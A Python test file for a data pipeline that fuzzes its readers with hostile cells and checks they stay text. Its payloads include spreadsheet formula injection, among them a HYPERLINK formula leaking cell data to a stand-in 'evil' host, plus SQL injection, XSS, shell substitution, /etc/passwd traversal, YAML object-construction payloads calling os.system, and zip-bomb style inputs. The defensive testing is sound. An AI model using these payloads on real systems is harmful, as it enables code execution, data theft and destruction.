"""Input that wants to do harm: it is text, it stays text, and nothing that is read is ever run or unpacked."""

import csv
import gzip
import io
import json
import zlib
from datetime import date
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipelines.config import ConfigError, FilesSource, load_settings
from pipelines.execute import run_job
from pipelines.run import published_dir
from pipelines.sources.files import read_raw
from schemas.validation import SourceError
from tests.pipelines.sources.conftest import fate_of
from warehouse.publish import open_published
from warehouse.store import read

FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
NAMES = "customers: {files: 'c.*', columns: {customer_id: id, name: name}}"
EVERY_KIND = """subscription_changes:
  files: 'c.*'
  shape: periods
  columns:
    change_id: id
    subscription_id: id
    item_id: id
    customer_id: name
    starts_at: {from: start, time: "%Y-%m-%d"}
    ends_at: {from: end, time: "%Y-%m-%d"}
    unit_amount_minor: {from: amount, money: major}
    currency: currency
    quantity: quantity
    interval: {from: interval, map: {monthly: month, yearly: year}}
"""
HEADERS = ["id", "name", "start", "end", "amount", "currency", "quantity", "interval"]

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE staging.customers; --",
    "\"; ATTACH '/tmp/x' AS x; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "[bold red]${HOME}$(id)`id`[/]",
    "../../etc/passwd",
    "a\x00b",
    "\u202egnp.exe",
    "a\nb\r\nc",
    "%s%n%x",
    "\ufeff",
    "9" * 400,
    "NaN",
    "-0",
    "1e309",
]

cells = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30), st.sampled_from(["2026-01-01", "10.00", "USD", "1"]))


def write(folder: Path, tables: str, name: str, content: bytes) -> FilesSource:
    indented = "\n".join(f"      {line}" for line in tables.splitlines())
    (folder / "sources.yaml").write_text(f"sources:\n  shop:\n    kind: files\n    tables:\n{indented}\n")
    for former in folder.glob("c.*"):
        former.unlink()
    (folder / name).write_bytes(content)
    source = load_settings(folder).sources.sources["shop"]
    assert isinstance(source, FilesSource)
    return source


def fates(folder: Path, tables: str, name: str, content: bytes):
    """The fate of every row, or the error that stops the source; nothing else may come of any input."""
    ((table, spec),) = write(folder, tables, name, content).tables.items()
    try:
        raw = read_raw("shop", table, spec, folder)
        return raw.frame, fate_of(raw, spec)
    except SourceError as error:
        return None, error


def as_csv(rows: list[list[str]]) -> bytes:
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(rows)
    return text.getvalue().encode("utf-8", "surrogatepass")


@FUZZ
@given(st.lists(st.lists(cells, min_size=8, max_size=8), min_size=1, max_size=6))
def test_any_cells_are_accepted_or_refused_row_by_row_and_none_is_lost(tmp_path, rows):
    _, fate = fates(tmp_path, EVERY_KIND, "c.csv", as_csv([HEADERS, *rows]))
    if isinstance(fate, SourceError):
        return
    parts = [part.select("_file", "_row") for part in (fate.accepted, fate.superseded)]
    refused = fate.quarantined.select(pl.col("file").alias("_file"), pl.col("row").alias("_row"))
    given_rows = {number for number, row in enumerate(rows, start=1) if any(row)}
    assert set(pl.concat([*parts, refused])["_row"]) == given_rows


@FUZZ
@given(st.binary(max_size=300), st.sampled_from(["c.csv", "c.tsv", "c.json", "c.jsonl", "c.parquet"]))
def test_any_bytes_are_rows_or_an_error_of_the_source(tmp_path, content, name):
    fates(tmp_path, NAMES, name, content)


@FUZZ
@given(st.lists(st.recursive(st.none() | st.booleans() | st.floats() | st.text(), st.lists, max_leaves=8)))
def test_any_json_is_rows_or_an_error_of_the_source(tmp_path, values):
    rows = [{"id": number, "name": value} for number, value in enumerate(values)]
    fates(tmp_path, NAMES, "c.json", json.dumps(rows).encode())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_name_comes_through_as_it_is(tmp_path, text):
    _, fate = fates(tmp_path, NAMES, "c.csv", as_csv([["id", "name"], ["c1", text], ["c2", "plain"]]))
    assert fate.accepted.sort("customer_id")["name"].to_list() == [text.strip() or None, "plain"]


def test_a_cell_of_ten_megabytes_is_read_and_never_quoted(tmp_path):
    _, fate = fates(tmp_path, NAMES, "c.csv", as_csv([["id", "name"], ["c1", "x" * 10_000_000]]))
    assert fate.accepted["name"].str.len_bytes().to_list() == [10_000_000]
    _, fate = fates(tmp_path, EVERY_KIND, "c.csv", as_csv([HEADERS, *([[*"ab", *["9" * 1_000_000] * 6]] * 2)]))
    assert isinstance(fate, SourceError)
    assert len(str(fate)) < 2_000


@pytest.mark.parametrize(
    "content",
    [b"[" * 100_000 + b"]" * 100_000, b'[{"id": "1", "name": ' + b'{"a":' * 990 + b"1" + b"}" * 990 + b"}]"],
    ids=["lists", "objects"],
)
@pytest.mark.parametrize("name", ["c.json", "c.jsonl"])
def test_json_that_is_nested_without_end_is_named(tmp_path, content, name):
    _, error = fates(tmp_path, NAMES, name, content)
    assert "its JSON is nested too deeply" in str(error)


def test_half_a_character_is_named(tmp_path):
    _, error = fates(tmp_path, NAMES, "c.json", rb'[{"id": "1", "name": "\ud800"}]')
    assert "holds half of a character" in str(error)


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress])
@pytest.mark.parametrize("name", ["c.csv", "c.tsv", "c.json", "c.jsonl", "c.parquet"])
def test_what_is_compressed_is_not_unpacked(tmp_path, pack, name):
    """A few kilobytes could become as many gigabytes."""
    _, error = fates(tmp_path, NAMES, name, pack(b"id,name\n1," + b"a" * 10_000_000))
    assert isinstance(error, SourceError)


@pytest.mark.parametrize(
    "value",
    [
        "!!python/object/apply:os.system ['touch {mark}']",
        "!!python/object/new:subprocess.Popen [['touch', '{mark}']]",
        "!!python/name:os.system",
        "!include /etc/passwd",
    ],
)
@pytest.mark.parametrize("file", ["sources.yaml", "policy.yaml"])
def test_yaml_that_wants_to_make_objects_makes_none(tmp_path, value, file):
    mark = tmp_path / "made"
    (tmp_path / "sources.yaml").write_text("sources: {shop: {kind: sample}}\n")
    (tmp_path / file).write_text(f"sources: {value.format(mark=mark)}\n")
    with pytest.raises(ConfigError, match="is no YAML"):
        load_settings(tmp_path)
    assert not mark.exists()


@pytest.mark.parametrize(
    "condition",
    [
        "id IN (SELECT * FROM read_csv('/etc/passwd'))",
        "(SELECT 1 FROM read_parquet('/tmp/x')) = 1",
        "id = '1'; COPY (SELECT 1) TO '{mark}'",
        "id = '1' UNION SELECT * FROM x",
    ],
)
def test_a_condition_reads_the_row_and_nothing_else(tmp_path, condition):
    mark = tmp_path / "made"
    tables = f"customers: {{files: 'c.*', columns: {{customer_id: id}}, where: \"{condition.format(mark=mark)}\"}}"
    with pytest.raises(ConfigError, match=r"where: is no SQL condition"):
        fates(tmp_path, tables, "c.csv", b"id,name\n1,a\n")
    assert not mark.exists()


def test_a_condition_may_speak_of_the_word_select(tmp_path):
    tables = "customers: {files: 'c.*', columns: {customer_id: id, name: name}, where: \"name <> 'Select, Inc'\"}"
    _, fate = fates(tmp_path, tables, "c.csv", as_csv([["id", "name"], ["1", "Select, Inc"], ["2", "b"]]))
    assert fate.accepted["customer_id"].to_list() == ["2"]


@pytest.mark.usefixtures("quick_dagster")
def test_hostile_names_go_through_a_whole_run_as_the_texts_that_they_are(company, kpis):
    names = [text for text in HOSTILE if text.strip() == text and "\x00" not in text and "\ufeff" not in text]
    rows = [[f"{at}", f"S{at}", name, "2026-01-05", "", name, "10.00", "month"] for at, name in enumerate(names)]
    head = ["Id", "Subscription", "Customer", "From", "Until", "Plan", "Amount", "Every"]
    one = company({"subscriptions.csv": as_csv([head, *rows]).decode()})
    report = run_job(one, date(2026, 2, 28))
    assert report.outcome == "published", report.failures
    with open_published(published_dir(one)) as con:
        accounts = con.sql("SELECT DISTINCT account_id FROM facts.account_day ORDER BY ALL").pl()
        schemas = con.sql("SELECT count(*) FROM duckdb_tables() WHERE schema_name = 'facts'").fetchall()
    assert set(accounts["account_id"]) == set(names)
    assert schemas[0][0] > 10
    for name in names[:7]:
        process = kpis("explain", "--config", str(one.base_dir), "--json", "--", name)
        told, error = process.communicate()
        assert process.returncode == 0, error
        assert {row["account_id"] for row in json.loads(told)["facts.mrr_ledger"]} == {name}


def test_exports_that_are_opened_in_a_spreadsheet_are_not_written():
    """Parquet, DuckDB, JSON and HTML run no formulas; a CSV would have to disarm them."""
    room = Path(__file__).parents[2] / "pipelines"
    writers = [
        path for path in room.rglob("*.py") if "write_csv" in path.read_text() or "csv.writer" in path.read_text()
    ]
    assert writers == []


def test_a_name_of_a_table_is_no_place_for_sql():
    with duckdb.connect() as con, pytest.raises(ValueError, match="is no table name"):
        read(con, 'facts.one"; DROP TABLE x; --')
